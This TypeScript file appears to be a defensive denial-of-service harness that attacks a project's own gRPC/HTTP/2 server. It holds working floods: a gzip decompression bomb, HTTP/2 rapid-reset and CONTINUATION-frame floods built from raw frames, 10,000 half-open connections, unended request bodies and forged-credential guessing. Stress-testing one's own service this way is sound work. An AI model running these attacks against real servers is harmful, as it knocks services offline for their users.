import { randomBytes } from "node:crypto";
import http2 from "node:http2";
import { setTimeout as wait } from "node:timers/promises";
import { gzipSync } from "node:zlib";
import { type Attacker, inParallel, openFrom, runAttack } from "../harness/attack.ts";

/** Some attacks use the credential. */
type DoorTarget = Attacker & { readonly port: number; readonly credential: string };

const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
const FRAME = { headers: 1, reset: 3, settings: 4, continuation: 9 } as const;
const GREETING = Buffer.concat([PREFACE, frame(FRAME.settings, 0, 0, Buffer.alloc(0))]);
const PATH = "/activity.ingest.v1.DonationService/CreateDonation";
const OPEN_PATH = "/activity.read.v1.AdmissionService/AdmitClient";
const HEALTH_PATH = "/grpc.health.v1.Health";
const REFLECTION_PATH = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";
/** Asks for the file that declares a service. Field 4 of the request names the service. */
const REFLECTION_REQUEST = envelopeOf(Buffer.from(`\x22\x25activity.dashboard.v1.EndpointService`));
/** 130 KB. Each of its 128 parts is compressed alone, because the whole would take half of a second. */
const BOMB = Buffer.concat(Array(128).fill(gzipSync(Buffer.alloc(1024 * 1024))));
const END_OF_STREAM_AND_HEADERS = 5;
const CANCEL = Buffer.from([0, 0, 0, 8]);
/** The headers of a call, uncompressed. */
const HEADER_BLOCK = Buffer.concat(
  Object.entries({ ":scheme": "http", ":authority": "core", ...headersOf({}) }).map(literalField),
);
/** The number of open calls with made-up credentials, over ten connections. */
export const MADE_UP_AT_ONCE = 100;
const bearer = (text: string) => ({ authorization: `Bearer ${text}` });

/**
 * Attacks on the core's port. They last until their process ends. `before-the-body.test.ts` tests that the core reads
 * no body without a credential, and waits for no head.
 */
export const DOOR_ATTACKS = {
  "130 KB that inflate to 128 MB, with a credential": (target) =>
    inParallel(8, async () => {
      const session = await openSession(target);
      const headers = { ...bearer(target.credential), "grpc-encoding": "gzip" };
      while (!session.destroyed) {
        target.count("sent");
        target.count(`status ${await statusOf(session, headers, envelopeOf(BOMB, 1))}`);
        await wait(20);
      }
    }),

  "10,000 half-open connections": (target) =>
    inParallel(10_000, async (index) => {
      await wait(index / 8);
      const socket = await open(target);
      // Some send nothing, some half of the preface, some a complete HTTP/2 greeting.
      socket.write([Buffer.alloc(0), PREFACE.subarray(0, 9), GREETING][index % 3] ?? "");
      if (!socket.destroyed) target.count("sent");
    }),

  "200 bodies of 1 MiB that do not end, where none needs a credential": (target) =>
    onHundredStreams(2, target, sendUnended),

  "reflection without end, whose answers are not read": (target) =>
    onHundredStreams(10, target, reflectUnended),

  "4,000 watches of the health": (target) =>
    onHundredStreams(40, target, (session) => keepOpen(session, target, "Watch")),

  "4,000 health checks whose bodies do not end": (target) =>
    onHundredStreams(40, target, (session) => keepOpen(session, target, "Check")),

  "rapid resets": (target) =>
    inParallel(10, async () => {
      for (;;) {
        const socket = await open(target);
        socket.resume();
        socket.write(GREETING);
        for (let stream = 1; socket.writable; ) {
          const frames: Buffer[] = [];
          for (; frames.length < 100; stream += 2) {
            frames.push(frame(FRAME.headers, END_OF_STREAM_AND_HEADERS, stream, HEADER_BLOCK));
            frames.push(frame(FRAME.reset, 0, stream, CANCEL));
            target.count("sent");
          }
          socket.write(Buffer.concat(frames));
          await wait(20);
        }
        socket.destroy();
        await wait(100);
      }
    }),

  "CONTINUATION frames without end": (target) =>
    inParallel(20, async () => {
      for (;;) {
        const socket = await open(target);
        socket.resume();
        socket.write(Buffer.concat([GREETING, frame(FRAME.headers, 0, 1, randomBytes(1000))]));
        while (socket.writable) {
          socket.write(frame(FRAME.continuation, 0, 1, randomBytes(16_000)));
          target.count("sent");
          await wait(10);
        }
        socket.destroy();
        await wait(100);
      }
    }),

  "made-up credentials": (target) =>
    inParallel(10, async () => {
      const session = await openSession(target);
      await inParallel(MADE_UP_AT_ONCE / 10, async () => {
        while (!session.destroyed) {
          target.count("sent");
          const madeUp = target.credential.replace(/[0-9a-f]{8}$/, randomBytes(4).toString("hex"));
          target.count(`status ${await statusOf(session, bearer(madeUp))}`);
          await wait(20);
        }
      });
    }),
} satisfies Record<string, (target: DoorTarget) => Promise<unknown>>;

/** Opens sessions, and 100 streams at once on each. A stream that ends is followed by another. */
function onHundredStreams(
  sessions: number,
  target: DoorTarget,
  openStream: (session: http2.ClientHttp2Session, target: DoorTarget) => Promise<void>,
) {
  return inParallel(sessions, async () => {
    const session = await openSession(target);
    await inParallel(100, async () => {
      while (!session.closed) await openStream(session, target);
    });
  });
}

/** Sends a body of 1 MiB without its last byte. Keeps the call open until the core closes it. */
async function sendUnended(session: http2.ClientHttp2Session, target: DoorTarget): Promise<void> {
  const call = { ":method": "POST", ":path": OPEN_PATH, "content-type": "application/proto" };
  const stream = session.request(call);
  stream.on("error", () => target.count("errors")).resume();
  target.count("sent");
  stream.write(Buffer.alloc(1024 * 1024 - 1));
  while (!stream.destroyed) await wait(50);
}

/** Asks for a file again and again on one stream, and reads no answer, until the core ends the stream. */
async function reflectUnended(session: http2.ClientHttp2Session, target: DoorTarget) {
  const stream = session.request({ ...headersOf({}), ":path": REFLECTION_PATH });
  stream.on("error", () => target.count("errors"));
  while (!stream.destroyed) {
    stream.write(REFLECTION_REQUEST);
    target.count("sent");
    await wait(200);
  }
}

/** Calls the health service, and keeps the call open until the core closes it. */
async function keepOpen(
  session: http2.ClientHttp2Session,
  target: DoorTarget,
  method: "Check" | "Watch",
): Promise<void> {
  const stream = session.request({ ...headersOf({}), ":path": `${HEALTH_PATH}/${method}` });
  stream.on("error", () => target.count("errors")).resume();
  target.count("sent");
  if (method === "Watch") stream.end(Buffer.alloc(5));
  while (!stream.destroyed) await wait(50);
}

function headersOf(headers: Record<string, string>) {
  const call = { ":method": "POST", ":path": PATH, "content-type": "application/grpc+proto" };
  return { ...call, te: "trailers", ...headers };
}

/** Makes a call. Returns its gRPC status, or "none". */
function statusOf(
  session: http2.ClientHttp2Session,
  headers: Record<string, string>,
  body: Buffer = Buffer.alloc(5),
): Promise<string> {
  return new Promise((resolve) => {
    const stream = session.request(headersOf(headers));
    const told = (trailers: http2.IncomingHttpHeaders) => {
      if (trailers["grpc-status"] !== undefined) resolve(`${trailers["grpc-status"]}`);
    };
    stream
      .on("response", told)
      .on("trailers", told)
      .on("error", () => {});
    stream.on("close", () => resolve("none"));
    stream.resume();
    stream.end(body);
  });
}

async function openSession(target: DoorTarget): Promise<http2.ClientHttp2Session> {
  const socket = await open(target);
  const session = http2.connect("http://core", { createConnection: () => socket });
  return session.on("error", () => target.count("errors"));
}

/** A message of gRPC. The flag 1 says that it is compressed. */
function envelopeOf(message: Buffer, flags = 0): Buffer {
  const head = Buffer.alloc(5);
  head.writeUInt8(flags, 0);
  head.writeUInt32BE(message.length, 1);
  return Buffer.concat([head, message]);
}

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** A header field in HPACK, without its tables and codes. */
function literalField([name, value]: [string, string]): Buffer {
  const texts = [name, value].map((text) => [Buffer.of(text.length), Buffer.from(text)]);
  return Buffer.concat([Buffer.of(0), ...texts.flat()]);
}

const open = (target: DoorTarget) => openFrom(target, target.port);

if (import.meta.main) {
  await runAttack(DOOR_ATTACKS, ([port, credential = ""]) => ({ port: Number(port), credential }));
}
